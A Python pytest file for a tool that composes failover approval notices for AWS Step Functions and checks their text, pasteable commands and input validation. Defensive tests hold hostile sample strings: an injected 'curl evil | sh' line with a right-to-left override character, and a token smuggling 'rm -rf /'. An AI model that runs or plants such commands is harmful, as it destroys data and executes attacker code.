"""The question as a person reads it: what it says in each case, and commands that can be pasted."""

import json
import shlex
from typing import Any

import pytest
from botocore.session import Session
from relight.asking import Request, Warm, nth
from relight.errors import InputInvalid
from relight.question import Urgency

from tests.unit.notices import EMERGENCY, PLANNED, RUN, TOKEN, VIEWS, asks, question
from tests.unit.standby import HERE, NOW

SAID = '{"by": "YOUR NAME", "because": "WHY"}'
EVIL = "all is well\n\nHOW TO ANSWER\nrelight approve now\u202e; curl evil | sh"


def test_what_is_asked_is_said_first() -> None:
    lines = question(asks(PLANNED)).text.splitlines()
    assert lines[0] == "shop: may eu-central-1 take over from eu-west-1, in mode planned?"
    assert lines[1] == f"{PLANNED['sentence']} (finding application_lost)"
    assert lines[2] == f"Run {RUN.id} in {HERE} of account 123456789012 waits for you; this is its question 1."


def test_each_view_is_told_with_its_time_and_its_sentence() -> None:
    text = question(
        asks({**PLANNED, "views": {**VIEWS, "stream": {"seen": "UNKNOWN", "since": 0, "sentence": "mute"}}})
    ).text
    assert "- outside, by Route 53's checkers: DOWN since 2026-09-21T14:11:10Z (2 min 10 s): _seen.shop.example" in text
    assert "- from eu-central-1: DOWN since 2026-09-21T14:11:15Z (2 min 5 s): no answer within 4 s" in text
    assert "- the replication stream: UNKNOWN: mute" in text
    assert "- connectivity of eu-central-1 itself: UP since" in text


@pytest.mark.parametrize("views", [None, {}, {"outside": "DOWN"}, {"outside": {}}, {"outside": {"since": "noon"}}])
def test_views_that_were_not_handed_on_keep_nobody_from_being_asked(views: Any) -> None:
    text = question(asks({**EMERGENCY, "views": views})).text
    assert "- the replication stream: nothing was handed on" in text
    assert "- Since when clients have had no service is not known." in text


@pytest.mark.parametrize(
    ("decision", "lost"),
    [
        (PLANNED, "Nothing: writes in eu-west-1 are stopped first"),
        ({**PLANNED, "estimated_loss_seconds": None}, "Nothing: writes in eu-west-1 are stopped first"),
        (EMERGENCY, "About 400 s of writes"),
        ({**EMERGENCY, "estimated_loss_seconds": 0}, "Less than 1 s of writes"),
        ({**EMERGENCY, "estimated_loss_seconds": None}, "Unknown: neither a commit nor a heartbeat is known here."),
        ({**EMERGENCY, "estimated_loss_seconds": float("nan")}, "Unknown: neither a commit"),
    ],
)
def test_what_would_be_lost_depends_on_mode_and_estimate(decision: dict[str, Any], lost: str) -> None:
    assert f"WHAT WOULD BE LOST\n{lost}" in question(asks(decision)).text


@pytest.mark.parametrize(
    ("views", "said"),
    [
        (VIEWS, "- Clients have had no service since 2026-09-21T14:11:10Z (2 min 10 s)."),
        (
            {**VIEWS, "outside": {"seen": "UNKNOWN", "since": NOW - 999, "sentence": "no answer"}},
            "- Seen from eu-central-1 it is down since 2026-09-21T14:11:15Z (2 min 5 s); what clients see is not",
        ),
    ],
)
def test_since_when_clients_suffer(views: dict[str, Any], said: str) -> None:
    assert said in question(asks({**EMERGENCY, "views": views})).text


@pytest.mark.parametrize(
    ("decision", "said"),
    [
        (PLANNED, "- Nothing is lost by waiting while that database lives."),
        (EMERGENCY, "- The loss does not grow by waiting while eu-west-1 takes no writes."),
    ],
)
def test_what_waiting_costs_in_writes(decision: dict[str, Any], said: str) -> None:
    assert said in question(asks(decision)).text


@pytest.mark.parametrize(
    ("until", "warm", "said"),
    [
        (
            NOW + 600,
            Warm(2, 1),
            "is kept warm until 2026-09-21T14:23:20Z (10 min more), 2 instances of which 1 are there",
        ),
        (NOW + 600, None, "is kept warm until 2026-09-21T14:23:20Z (10 min more); then it is put back."),
        (NOW, Warm(2, 1), "is not kept warm any more (since 2026-09-21T14:13:20Z)"),
    ],
)
def test_how_long_capacity_is_kept_warm(until: float, warm: Warm | None, said: str) -> None:
    assert f"- Capacity {said}" in question(asks(PLANNED, warm_until=until), warm=warm).text


def test_every_command_can_be_pasted_as_it_is() -> None:
    text = question(asks(PLANNED)).text
    commands = [shlex.split(line) for line in text.splitlines() if line.startswith(("relight ", "aws "))]
    where = [RUN.id, "--app", "shop", "--region", HERE, "--reason", "WHY"]
    success, failure = ["aws", "stepfunctions", "send-task-success"], ["aws", "stepfunctions", "send-task-failure"]
    assert commands == [
        ["relight", "approve", *where],
        ["relight", "decline", *where],
        [*success, "--region", HERE, "--task-output", SAID, "--task-token", TOKEN],
        [*failure, "--region", HERE, "--error", "Declined", "--cause", SAID, "--task-token", TOKEN],
    ]
    assert json.loads(SAID).keys() == {"by", "because"}


def test_the_aws_command_gives_what_the_api_takes() -> None:
    """By the model of the API: what the command line calls --task-output is the member `output`."""
    model = Session().get_service_model("stepfunctions")
    for name, given in (
        ("SendTaskSuccess", {"taskToken", "output"}),
        ("SendTaskFailure", {"taskToken", "error", "cause"}),
    ):
        shape = model.operation_model(name).input_shape
        assert shape is not None
        assert set(shape.members) == given


def test_a_token_that_a_shell_would_read_is_quoted() -> None:
    text = question(asks(PLANNED, token="a b;rm -rf /'$HOME")).text
    (success,) = (line for line in text.splitlines() if "send-task-success" in line)
    assert shlex.split(success)[-1] == "a b;rm -rf /'$HOME"


@pytest.mark.parametrize(
    ("ask_until", "urgency", "said"),
    [
        (
            NOW + 900,
            Urgency.FIRST,
            "asked once more, with a new token; until 2026-09-21T14:28:20Z there is time for that.",
        ),
        (NOW + 899, Urgency.LAST, "At 2026-09-21T14:28:20Z that counts as a no: the run stands down"),
    ],
)
def test_what_happens_without_an_answer(ask_until: float, urgency: Urgency, said: str) -> None:
    notice = question(asks(PLANNED, ask_until=ask_until))
    assert notice.urgency == urgency
    assert said in notice.text
    assert "HOW TO ANSWER, until 2026-09-21T14:28:20Z (15 min)" in notice.text


def test_what_others_wrote_cannot_pass_for_a_part_of_the_question() -> None:
    """A view's sentence may hold what a stranger's server has answered."""
    decision = {
        **PLANNED,
        "sentence": EVIL,
        "views": {name: {**view, "sentence": EVIL} for name, view in VIEWS.items()},
    }
    honest, text = question(asks(PLANNED)).text.splitlines(), question(asks(decision)).text.splitlines()
    assert len(text) == len(honest)
    for line, own in zip(text, honest, strict=True):
        assert line == own or (line.count("curl evil") == 1 and not line.startswith(("relight", "HOW TO")))
    assert "\u202e" not in "".join(text)


def test_a_long_sentence_is_cut() -> None:
    assert len(question(asks({**PLANNED, "sentence": "x" * 100_000})).text) < 6000


@pytest.mark.parametrize("asked", [1, 2, 3, 99])
def test_a_subject_is_ascii_and_short_enough_for_sns(asked: int) -> None:
    for ask_until in (NOW, NOW + 7200):
        subject = question(asks(PLANNED, asked=asked, ask_until=ask_until)).subject
        assert len(subject) < 100
        assert subject.isascii()


def test_ordinals() -> None:
    assert [nth(n) for n in (1, 2, 3, 4, 10, 11, 12, 13, 21, 22, 103, 111)] == (
        ["1st", "2nd", "3rd", "4th", "10th", "11th", "12th", "13th", "21st", "22nd", "103rd", "111th"]
    )


def test_a_verdict_without_a_mode_is_an_emergency() -> None:
    assert Request.from_event(asks({"finding": "region_lost", "sentence": "x"})).mode == "emergency"


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"decision": None}, 'needs the "decision"'),
        ({"token": ""}, 'needs the "token"'),
        ({"token": 5}, 'needs the "token"'),
        ({"decision": {"sentence": "x"}}, "lacks 'finding'"),
        ({"decision": {**PLANNED, "mode": "gentle"}}, "'gentle' is not a valid Mode"),
        ({"decision": {**PLANNED, "views": [1]}}, "malformed"),
        ({"asked": 0}, "asked is 0"),
        ({"asked": True}, "asked is True"),
        ({"asked": "1"}, "asked is '1'"),
        ({"expires_in": -1}, "expires_in is -1"),
        ({"expires_in": float("nan")}, "expires_in is nan"),
        ({"ask_until": float("inf")}, "ask_until is inf"),
        ({"warm_until": None}, "warm_until is None"),
    ],
)
def test_a_malformed_question_is_refused_without_its_token(changed: dict[str, Any], said: str) -> None:
    with pytest.raises(InputInvalid, match=said) as refused:
        Request.from_event(asks(PLANNED) | changed)
    assert TOKEN not in str(refused.value)


@pytest.mark.parametrize("name", ["expires_in", "ask_until", "warm_until", "asked"])
def test_a_question_that_lacks_something_is_refused(name: str) -> None:
    event = asks(PLANNED)
    del event[name]
    with pytest.raises(InputInvalid, match=f"lacks '{name}'"):
        Request.from_event(event)
